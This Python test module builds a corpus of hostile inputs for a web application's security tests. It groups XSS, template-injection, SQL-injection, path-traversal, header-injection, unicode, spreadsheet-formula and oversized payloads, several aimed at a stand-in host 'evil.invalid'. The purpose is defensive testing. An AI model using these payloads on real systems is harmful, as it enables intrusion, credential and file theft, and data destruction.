"""The hostile-input corpus of the battery (SECURITY.md §4.2): at least 120 payloads by family.

Each family is a tuple of strings; `CORPUS` flattens them to (family, payload) pairs. Template
payloads evaluate to a marker that must never appear in a response (`TEMPLATE_MARKERS`); oversized
payloads are built lazily by size so the module stays small in memory.
"""

from __future__ import annotations

XSS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</ScRiPt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">klik</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    '<link rel="stylesheet" href="http://evil.invalid/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<form action="http://evil.invalid/"><button>x</button></form>',
    '<div hx-get="/uitloggen" hx-trigger="load">x</div>',
    '<div hx-post="/beheer" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<button hx-on:click="alert(1)">x</button>',
    '<div data-hx-get="http://evil.invalid/" data-hx-trigger="load">x</div>',
    '<a hx-boost="true" href="http://evil.invalid/">x</a>',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
)
TEMPLATE = (
    "{{1337*7331}}",
    "{{ 1337 * 7331 }}",
    "${1337*7331}",
    "#{1337*7331}",
    "<%= 1337*7331 %>",
    "{{'7'*7}}",
    "{% print(1337*7331) %}",
    "{{config}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__}}",
    "{{request.application.__globals__.__builtins__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "%(SECRET_KEY)s {0.__class__} {SECRET_KEY}",
    "{{ _('x') }}{{ csrf_token() }}",
)
# What a template payload would produce if it were evaluated (escaped or not); none may ever be in
# a response. No marker occurs literally in any payload, so a stored, escaped payload never matches.
TEMPLATE_MARKERS = (
    "9801547",
    "7777777",
    "Config {",
    "PERMANENT_SESSION_LIFETIME",
    "class &#39;",
    "<class '",
    "uid=0(",
)
SQLI = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR "1"="1',
    "1; DROP TABLE companies; --",
    "'; DROP TABLE users; --",
    "1' AND SLEEP(5) --",
    "1) OR pg_sleep(5) --",
    "' UNION SELECT NULL, password_hash FROM users --",
    "admin'--",
    "%' OR '%'='",
    "%",
    "_",
    "\\%\\_",
    "1 OR 1=1",
    "' OR ''='",
    "1'; SELECT * FROM user_sessions; --",
    "\" ; UPDATE companies SET legal_name='x' --",
    "') OR ('a'='a",
    "0x27 OR 1=1",
    "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "* MATCH 'a' OR 1",
    'NEAR("a" "b") OR *',
)
PATH = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "instance/secret_key",
    "../instance/portal.db",
    "//evil.invalid/",
)
HEADER = (
    "x\r\nSet-Cookie: pwned=1",
    "x\r\nLocation: http://evil.invalid/",
    "x%0d%0aSet-Cookie:%20pwned=1",
    "test@example.nl\r\nBcc: victim@example.nl",
    "test@example.nl\nCc: victim@example.nl",
    "Onderwerp\r\n\r\n<html>injected</html>",
    "x\rX-Injected: 1",
    "x\u2028X-Injected: 1",
    "http://evil.invalid/",
    "https://evil.invalid/%2F..",
)
UNICODE = (
    "H\u00e9nk",
    "He\u0301nk",  # decomposed é: NFC-normalised
    "\u202eetnevlos\u202c",  # right-to-left override
    "\u2066Bedrijf\u2069",
    "\u200bbeheerder\u200b@example.nl",
    "\u0430dmin@example.nl",  # Cyrillic a
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth brackets
    "\u0000null",
    "null\u0000byte",
    "bel\u0007tab\tvt\u000b",
    "\u001b[31mrood\u001b[0m",
    "\ufeffbom",
    "\U0001f600 emoji \U0001f9f0\u200d",
    "Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357g\u0358o",
    "\ufffd\ufffe",
)
FORMULA = (
    "=1+1",
    '=HYPERLINK("http://evil.invalid/","klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("http://evil.invalid/","//a")',
    'DDE("cmd";"/C calc";"!A0")',
)
WRONG_TYPE = (
    "",
    " ",
    "-1",
    "0",
    "99999999999999999999999999",
    "1e308",
    "NaN",
    "-Infinity",
    "true",
    "null",
    "[]",
    "{}",
    '{"company_id": 2, "role": "admin"}',
    "2026-02-30",
    "31-12-99999",
)
# Oversized strings by length; the biggest exceed MAX_CONTENT_LENGTH (6 MiB) and must give 413.
OVERSIZED_SIZES = (129, 256, 1001, 4097, 10_001, 65_537, 200_001, 1_048_577, 5_242_881, 7_340_033)
BIG = 65_537  # payloads at or over this size go into one field per request only


def oversized(size: int) -> str:
    """A string of `size` characters that also carries markup, so an echo would show."""
    head = "<b>lang</b>"
    return head + "x" * (size - len(head))


FAMILIES: dict[str, tuple[str, ...]] = {
    "xss": XSS,
    "template": TEMPLATE,
    "sqli": SQLI,
    "path": PATH,
    "header": HEADER,
    "unicode": UNICODE,
    "formula": FORMULA,
    "wrong-type": WRONG_TYPE,
}


def corpus(*, with_oversized: bool = True) -> list[tuple[str, str]]:
    """Every payload as (family, payload), oversized ones last."""
    pairs = [(family, p) for family, payloads in FAMILIES.items() for p in payloads]
    if with_oversized:
        pairs += [("oversized", oversized(size)) for size in OVERSIZED_SIZES]
    return pairs


def family(name: str) -> list[tuple[str, str]]:
    """One family's payloads as (family, payload)."""
    return [pair for pair in corpus() if pair[0] == name]


FAMILY_NAMES = (*FAMILIES, "oversized")


def sample(per_family: int = 1) -> list[tuple[str, str]]:
    """The first payloads of each family (for the other-roles, one-field and shape passes)."""
    picks = []
    for name, payloads in FAMILIES.items():
        picks += [(name, p) for p in payloads[:per_family]]
    picks.append(("oversized", oversized(4097)))
    return picks


def echo_is_dangerous(payload: str) -> bool:
    """An unescaped echo matters for payloads with markup or quote characters."""
    return any(ch in payload for ch in "<>\"'")
